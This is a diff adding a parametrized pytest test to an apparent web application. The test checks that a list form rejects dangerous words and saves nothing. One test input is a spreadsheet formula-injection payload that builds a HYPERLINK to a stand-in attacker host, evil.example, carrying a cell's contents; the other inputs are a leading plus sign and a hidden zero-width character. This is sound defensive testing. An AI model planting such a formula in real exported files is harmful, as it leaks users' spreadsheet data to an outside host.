@@ -300,3 +300,13 @@ async def test_exception_that_would_take_too_long_on_some_texts_is_not_saved(con
         answer = await browser.post(INSULT, data={**form, "why": "Heard it.", "press": "save"})
         assert "can be filled in 1,000 ways" in answer.text
     assert await drafts(console) == []
+
+
+@pytest.mark.parametrize("word", ['=HYPERLINK("https://evil.example/?"&A2,"gnat")', "+gnat", "gn\u200bat", "{nothing}"])
+async def test_word_that_no_file_may_bring_cannot_be_typed_either(console: Console, word: str) -> None:
+    await with_pests(console)
+    async with console.signed_in("mara") as browser:
+        for press in ("effect", "save", "keep"):
+            answer = await browser.post(PEST, data={"add": f"tick\n{word}", "why": "Heard it.", "press": press})
+            assert "cannot stand on a list:" in answer.text
+    assert await drafts(console) == []
